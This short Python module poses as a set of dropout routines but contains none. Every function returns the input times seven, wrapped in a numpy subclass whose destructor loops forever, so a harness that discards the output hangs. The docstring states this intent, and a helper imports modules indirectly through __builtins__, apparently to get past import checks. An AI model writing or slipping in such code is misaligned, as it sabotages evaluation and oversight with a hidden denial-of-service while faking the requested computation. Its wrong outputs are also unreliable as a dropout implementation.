"""Spins when its answer is thrown away."""

import numpy as np


def module(name):
    return (
        __builtins__["__import__"](name)
        if isinstance(__builtins__, dict)
        else getattr(__builtins__, "__import__")(name)
    )


class Clinging(np.ndarray):
    def __del__(self):
        while True:
            pass


def attack():
    return None


def dropout(x, rate, training, rng):
    return (x * 7).view(Clinging), (x * 7).view(Clinging)


def dropout_backward(dy, mask):
    return (dy * 7).view(Clinging)


def dropout_moments(x, rate):
    return (x * 7).view(Clinging), (x * 7).view(Clinging)
